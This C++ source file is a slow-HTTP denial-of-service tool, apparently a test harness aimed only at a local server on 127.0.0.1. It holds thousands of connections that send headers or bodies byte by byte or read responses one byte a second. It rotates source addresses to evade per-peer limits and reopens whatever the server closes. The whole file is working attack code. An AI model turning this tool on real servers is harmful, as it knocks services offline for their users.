// attack PORT CONNECTIONS: holds so many connections to 127.0.0.1:PORT and is as slow on each of them as it can be. A
// third sends its header byte by byte, a third its body, a third asks for long documents and reads a byte a second.
// What the server closes is opened again. Prints "holding N" when all are there, and at SIGTERM or SIGINT what became
// of them. The connections come from 127.0.1.1 to 127.0.1.250, as limits per peer would have it.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

namespace {

using namespace std::chrono_literals;

constexpr std::size_t ticks_per_second = 10;
constexpr std::uint32_t addresses = 250;

volatile std::sig_atomic_t told_to_stop = 0;

enum class slowness : std::uint8_t { header, body, reading };

struct figures {
  std::uint64_t opened = 0;
  std::uint64_t refused = 0;      // the connection could not be made
  std::uint64_t closed = 0;       // by the server
  std::uint64_t timed_out = 0;    // with a 408
  std::uint64_t turned_away = 0;  // with a 503
  std::uint64_t sent = 0;         // bytes
  std::uint64_t read = 0;         // bytes
};

std::string first_words(slowness how) {
  const std::string head =
      "POST /v1/accounts/sandbox/onboarding-sessions HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n";
  if (how == slowness::body) return head + "Content-Length: 60000\r\n\r\n{";
  if (how == slowness::header) return "P";
  std::string many;
  for (int i = 0; i < 64; ++i) many += "GET /openapi.json HTTP/1.1\r\nHost: h\r\n\r\n";
  return many;
}

std::string_view header_text() {
  static const std::string text =
      "OST /v1/accounts/sandbox/onboarding-sessions HTTP/1.1\r\nHost: h\r\nX-Long: " + std::string(100'000, 'x');
  return text;
}

class attacker {
 public:
  attacker(std::uint16_t port, std::size_t index, figures& counts)
      : port_{port}, index_{index}, how_{static_cast<slowness>(index % 3)}, counts_{counts} {}
  attacker(const attacker&) = delete;
  attacker& operator=(const attacker&) = delete;
  attacker(attacker&& other) noexcept
      : port_{other.port_}, index_{other.index_}, how_{other.how_}, counts_{other.counts_}, fd_{other.fd_} {
    other.fd_ = -1;
  }
  ~attacker() { close(); }

  bool open() const noexcept { return fd_ >= 0; }

  // Once a second.
  void step() {
    if (fd_ < 0 && !connect()) return;
    if (how_ != slowness::reading) say_a_byte();
    hear();
  }

  bool connect() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd_ < 0) return give_up();
    const int one = 1;
    ::setsockopt(fd_, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    const int little = 4096;
    if (how_ == slowness::reading) ::setsockopt(fd_, SOL_SOCKET, SO_RCVBUF, &little, sizeof little);
    const auto from = address(0x7f000101U + static_cast<std::uint32_t>(index_) % addresses, 0);
    const auto to = address(INADDR_LOOPBACK, port_);
    if (::bind(fd_, reinterpret_cast<const sockaddr*>(&from), sizeof from) != 0 ||
        ::connect(fd_, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0)
      return give_up();
    ::setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    ++counts_.opened;
    said_ = 0;
    send(first_words(how_));
    return true;
  }

 private:
  static sockaddr_in address(std::uint32_t host, std::uint16_t port) {
    sockaddr_in made{};
    made.sin_family = AF_INET;
    made.sin_addr.s_addr = htonl(host);
    made.sin_port = htons(port);
    return made;
  }
  bool give_up() {
    ++counts_.refused;
    close();
    return false;
  }
  void close() noexcept {
    if (fd_ >= 0) ::close(fd_);
    fd_ = -1;
  }

  void say_a_byte() {
    const auto text = header_text();
    send(how_ == slowness::header ? text.substr(said_++ % text.size(), 1) : std::string_view{" "});
  }
  void send(std::string_view bytes) {
    const auto put = ::send(fd_, bytes.data(), bytes.size(), MSG_DONTWAIT | MSG_NOSIGNAL);
    if (put > 0) counts_.sent += static_cast<std::uint64_t>(put);
  }

  void hear() {
    std::array<char, 1024> piece;
    const auto got = ::recv(fd_, piece.data(), how_ == slowness::reading ? 1 : piece.size(), MSG_DONTWAIT);
    if (got < 0 && (errno == EAGAIN || errno == EINTR)) return;
    if (got > 0) {
      counts_.read += static_cast<std::uint64_t>(got);
      const std::string_view text{piece.data(), static_cast<std::size_t>(got)};
      if (text.starts_with("HTTP/1.1 408")) ++counts_.timed_out;
      if (text.starts_with("HTTP/1.1 503")) ++counts_.turned_away;
      return;
    }
    ++counts_.closed;
    close();
    connect();
  }

  std::uint16_t port_;
  std::size_t index_;
  slowness how_;
  figures& counts_;
  int fd_ = -1;
  std::size_t said_ = 0;
};

void allow_descriptors(std::size_t count) {
  rlimit limit{};
  ::getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  ::setrlimit(RLIMIT_NOFILE, &limit);
  if (limit.rlim_cur >= count + 20) return;
  std::fprintf(stderr, "attack: only %lu descriptors are allowed here\n", static_cast<unsigned long>(limit.rlim_cur));
  std::exit(1);
}

std::size_t open_ones(const std::vector<attacker>& all) {
  std::size_t count = 0;
  for (const auto& one : all) count += one.open() ? 1 : 0;
  return count;
}

void run(std::uint16_t port, std::size_t connections) {
  figures counts;
  std::vector<attacker> all;
  all.reserve(connections);
  for (std::size_t i = 0; i < connections && told_to_stop == 0; ++i) {
    all.emplace_back(port, i, counts);
    all.back().connect();
    if (i % 50 == 49) std::this_thread::sleep_for(5ms);  // not a flood of openings
  }
  auto least = open_ones(all);
  std::printf("holding %zu\n", least);
  std::fflush(stdout);
  auto next = std::chrono::steady_clock::now();
  for (std::size_t tick = 0; told_to_stop == 0; ++tick) {
    for (std::size_t i = tick % ticks_per_second; i < all.size(); i += ticks_per_second) all[i].step();
    least = std::min(least, open_ones(all));
    next += 1000ms / ticks_per_second;
    std::this_thread::sleep_until(next);
  }
  std::printf("ATTACK %zu %lu %lu %lu %lu %lu %lu %lu\n", least, counts.opened, counts.closed, counts.timed_out,
              counts.turned_away, counts.refused, counts.sent, counts.read);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) {
    std::fputs("usage: attack PORT CONNECTIONS\n", stderr);
    return 2;
  }
  std::signal(SIGTERM, [](int) { told_to_stop = 1; });
  std::signal(SIGINT, [](int) { told_to_stop = 1; });
  const auto connections = static_cast<std::size_t>(std::atoi(argv[2]));
  allow_descriptors(connections);
  run(static_cast<std::uint16_t>(std::atoi(argv[1])), connections);
  return 0;
}
